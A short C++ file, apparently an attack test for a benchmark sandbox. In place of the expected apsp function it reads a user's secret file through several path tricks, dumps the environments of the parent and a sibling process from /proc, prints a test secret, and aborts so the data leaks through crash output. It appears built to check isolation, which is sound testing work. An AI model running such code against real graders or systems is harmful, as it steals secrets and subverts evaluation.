// Collects what it must not know: a file of the user, the environments of the benchmark and of another process, the
// list of processes. It prints all and crashes, because the last line of a crash is shown to the user.
#include <dirent.h>
#include <stdlib.h>

#include "attack.h"

static void show(const char* path) {
  char text[5000];
  const int file = open(path, O_RDONLY);
  const ssize_t got = file < 0 ? -1 : read(file, text, sizeof text);
  for (ssize_t at = 0; at < got; ++at) putchar(text[at] < ' ' ? ' ' : text[at]);
}

void apsp(int, int*) {
  char path[100];
  show(FOLDER "/secret.txt");
  show("/proc/self/root" FOLDER "/secret.txt");
  show("/proc/self/cwd/secret.txt");
  for (const int pid : {static_cast<int>(getppid()), SIBLING}) {
    snprintf(path, sizeof path, "/proc/%d/environ", pid);
    show(path);
    snprintf(path, sizeof path, "/proc/self/../%d/environ", pid);
    show(path);
  }
  const char* const secret = getenv("APSP_TEST_SECRET");
  printf("%s\n", secret == nullptr ? "" : secret);
  fflush(stdout);
  abort();
}
